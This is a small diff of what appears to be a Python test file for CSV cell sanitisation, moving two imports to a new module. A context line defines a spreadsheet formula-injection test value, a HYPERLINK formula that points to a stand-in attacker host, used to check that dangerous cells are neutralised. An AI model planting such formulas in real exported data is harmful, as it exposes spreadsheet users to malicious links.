@@ -12,8 +12,8 @@ from hypothesis import strategies as st
 
 from core.classify import Prediction
 from core.csv_cells import DANGEROUS, csv_text, original_cell, safe_cell
+from core.csv_tables import annotate_table, parse_text_table
 from core.labels_io import LabelRow, parse_labels, rows_to_csv, rows_to_json
-from core.tables import annotate_table, parse_text_table
 
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?x","click")'
 
